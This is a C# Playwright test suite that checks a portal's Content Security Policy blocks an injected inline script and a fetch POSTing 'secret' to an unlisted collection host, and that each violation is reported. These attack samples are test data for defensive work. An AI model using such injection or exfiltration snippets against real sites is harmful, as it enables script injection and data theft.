using Microsoft.Playwright;
using ResponsePortal.Browser.Tests.Harness;

namespace ResponsePortal.Browser.Tests.Security;

/// <summary>
/// The policies hold in a real browser (docs/security-headers.md), and the harness that fails every journey on a
/// violation does see one: an injected inline script or style, or a connection to a host the policy does not name.
/// </summary>
public sealed class ContentSecurityPolicyTests(PortalFixture portal) : IClassFixture<PortalFixture>
{
    private const string InjectScript = "() => { const s = document.createElement('script'); s.textContent = 'window.injected = true'; document.head.append(s); return window.injected === true; }";

    [Fact]
    public async Task An_inline_script_injected_into_a_portal_page_does_not_run_and_is_reported()
    {
        await using var tab = await portal.OpenAsync(nameof(An_inline_script_injected_into_a_portal_page_does_not_run_and_is_reported));
        await tab.SignInAsync("usa");

        var ran = await tab.Page.EvaluateAsync<bool>(InjectScript);
        await Assertions.Expect(tab.Page.Locator("body[data-ready]")).ToBeVisibleAsync();

        Assert.False(ran);
        await WaitForViolationAsync(tab, "script-src");
    }

    [Fact]
    public async Task A_portal_page_cannot_send_data_to_a_host_its_policy_does_not_name()
    {
        await using var tab = await portal.OpenAsync(nameof(A_portal_page_cannot_send_data_to_a_host_its_policy_does_not_name));
        await tab.GotoAsync("/");

        var sent = await tab.Page.EvaluateAsync<string>("() => fetch('http://127.0.0.2:9/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', e => 'refused')");

        Assert.Equal("refused", sent);
        await WaitForViolationAsync(tab, "connect-src");
    }

    [Fact]
    public async Task A_public_site_page_without_a_script_refuses_one_and_the_search_page_runs_its_own()
    {
        await portal.MoveClockPastTheCloseAsync();
        await using var tab = await portal.OpenAsync(nameof(A_public_site_page_without_a_script_refuses_one_and_the_search_page_runs_its_own));

        await tab.Page.GotoAsync("/site/search.html?q=");
        await Assertions.Expect(tab.Page.Locator("#results li").First).ToBeVisibleAsync();
        tab.PolicyViolations.AssertNone();

        await tab.Page.GotoAsync("/site/c/al-usa-2-2021/");
        var ran = await tab.Page.EvaluateAsync<bool>(InjectScript);
        Assert.False(ran);
        await WaitForViolationAsync(tab, "script-src");
    }

    /// <summary>
    /// Waits for the securitypolicyviolation event of the directive (chromium's own console wording varies by version),
    /// then tells the tab that its violations were expected.
    /// </summary>
    private static async Task WaitForViolationAsync(PortalPage tab, string directive)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while (!tab.PolicyViolations.Seen.Any(v => v.Contains($"Content Security Policy violation: {directive}", StringComparison.Ordinal)))
        {
            Assert.True(DateTime.UtcNow < deadline, $"No {directive} violation was reported; seen: {string.Join("\n", tab.PolicyViolations.Seen)}");
            await tab.Page.WaitForTimeoutAsync(100);
        }
        tab.PolicyViolations.Expected();
    }
}
